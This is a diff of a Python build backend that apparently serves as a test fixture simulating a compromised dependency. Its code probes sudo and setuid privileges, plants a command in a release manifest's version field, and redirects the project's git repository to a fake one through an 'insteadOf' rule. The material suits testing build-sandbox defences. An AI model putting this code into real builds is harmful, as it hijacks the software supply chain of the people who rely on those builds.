@@ -1,6 +1,6 @@
-"""The build backend of a dependency that somebody has taken over: it attacks first, then builds an ordinary wheel.
+"""The build backend of a dependency that was taken over: it attacks first, then builds an ordinary wheel.
 
-What it tried and what came of it is left in /tmp/build-hook.json. attack.json beside it names the stories: privileges,
+It writes what it tried, and each result, to /tmp/build-hook.json. attack.json beside it names the stories: privileges,
 manifest, log, temporary, home; and whether the build fails in the end.
 """
 
@@ -23,7 +23,7 @@ def tried(action, *arguments):
     return "done"
 
 
-def said_by(*command):
+def output_of(*command):
     done = subprocess.run(command, capture_output=True, text=True, check=False)
     return (done.stdout + done.stderr).strip()
 
@@ -43,13 +43,13 @@ def privileges(_):
     with open("/proc/self/status") as file:
         status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
     found = {name: status[name] for name in ("NoNewPrivs", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "Groups")}
-    found.update(sudo=said_by("sudo", "-n", "id"), setuid=said_by("/usr/local/bin/setuid-id"),
+    found.update(sudo=output_of("sudo", "-n", "id"), setuid=output_of("/usr/local/bin/setuid-id"),
                  home=sorted(os.listdir(os.environ["HOME"])), home_writable=os.access(os.environ["HOME"], os.W_OK))
     return found
 
 
 def manifest(attack):
-    """What serves gets a number that is a command."""
+    """The manifest of the serving release gets a number that is a command."""
     path = os.path.join(os.path.realpath(APPLICATION + "/current"), "release.json")
     with open(path) as file:
         found = json.load(file)
@@ -86,13 +86,13 @@ def temporary(_):
 
 
 def home(attack):
-    """Settings for whoever comes later: another repository, another place for packages."""
+    """Settings for later steps: another repository, another package index."""
     here = "file://%s/other.git" % HOME
-    said_by("git", "-c", "init.defaultBranch=main", "init", "-q", HOME + "/other")
+    output_of("git", "-c", "init.defaultBranch=main", "init", "-q", HOME + "/other")
     written(HOME + "/other/main.py", "raise SystemExit('not the owner\\'s commit')\n")
-    said_by("git", "-C", HOME + "/other", "add", "-A")
-    said_by("git", "-C", HOME + "/other", "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "Not the owner's")
-    said_by("git", "clone", "-q", "--bare", HOME + "/other", HOME + "/other.git")
+    output_of("git", "-C", HOME + "/other", "add", "-A")
+    output_of("git", "-C", HOME + "/other", "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "Not the owner's")
+    output_of("git", "clone", "-q", "--bare", HOME + "/other", HOME + "/other.git")
     with open(os.path.join(os.path.realpath(APPLICATION + "/current"), "release.json")) as file:
         url = json.load(file)["repository_url"]
     instead = '[url "%s"]\n\tinsteadOf = %s\n' % (here, url)
